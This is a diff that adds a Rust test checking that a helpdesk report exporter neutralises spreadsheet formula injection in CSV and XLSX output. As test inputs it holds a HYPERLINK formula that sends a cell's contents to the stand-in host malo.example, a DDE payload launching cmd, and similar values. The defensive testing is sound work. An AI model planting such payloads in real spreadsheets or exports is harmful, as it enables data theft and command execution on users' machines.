@@ -265,3 +265,62 @@ fn the_pdf_text_holds_the_headline_figures() {
     assert!(text.contains("Total: 10 recibidas, 8 resueltas."));
     assert!(text.contains("Página 1 de"));
 }
+
+#[test]
+fn text_that_starts_like_a_formula_is_written_as_text() {
+    let mut report = october_report();
+    let row = &mut report.detail[0];
+    row.summary = "=HYPERLINK(\"http://malo.example/?d=\"&A1,\"Ver\")".into();
+    row.category = "+1+cmd|' /C calc'!A0".into();
+    row.requester = "@SUM(1+1)".into();
+    row.equipment = "-2+3".into();
+    row.solution = "\tTab".into();
+    row.resolution = "\r=1".into();
+    row.assignee = "Ana = Beto".into();
+    let number = row.number.clone();
+    report.general.by_category[0].label = "+1+cmd|' /C calc'!A0".into();
+
+    let bytes = export::detail_csv(&report).unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(&bytes[3..]);
+    let record = reader
+        .records()
+        .map(Result::unwrap)
+        .find(|r| r[0] == *number)
+        .unwrap();
+    assert_eq!(
+        &record[10],
+        "'=HYPERLINK(\"http://malo.example/?d=\"&A1,\"Ver\")"
+    );
+    assert_eq!(&record[5], "'+1+cmd|' /C calc'!A0");
+    assert_eq!(&record[2], "'@SUM(1+1)");
+    assert_eq!(&record[4], "'-2+3");
+    assert_eq!(&record[18], "'\tTab");
+    assert_eq!(&record[17], "'\r=1");
+    // Only the first character counts; numbers are never quoted.
+    assert_eq!(&record[8], "Ana = Beto");
+    assert_eq!(&record[11], report.detail[0].visits.to_string());
+
+    // The general tables hold the category's label: quoted there too, negative numbers not.
+    let general = String::from_utf8(export::general_csv(&report, &heading()).unwrap()).unwrap();
+    assert!(general.contains("'+1+cmd|' /C calc'!A0;"), "{general}");
+    assert!(general.contains("Respuestas a tiempo (%);75,0;100,0;-25,0"));
+
+    // The XLSX keeps the text as typed, as a text cell (never a formula).
+    let bytes = export::xlsx(&report, &heading()).unwrap();
+    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
+    let sheet = book.worksheet_range("Detalle").unwrap();
+    let formulas = book.worksheet_formula("Detalle").unwrap();
+    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
+    let rows: Vec<_> = sheet.rows().collect();
+    let cells = rows
+        .iter()
+        .find(|r| text_or_empty(&r[0]) == number)
+        .unwrap();
+    assert_eq!(
+        text(&cells[10]),
+        "=HYPERLINK(\"http://malo.example/?d=\"&A1,\"Ver\")"
+    );
+    assert_eq!(text(&cells[2]), "@SUM(1+1)");
+}
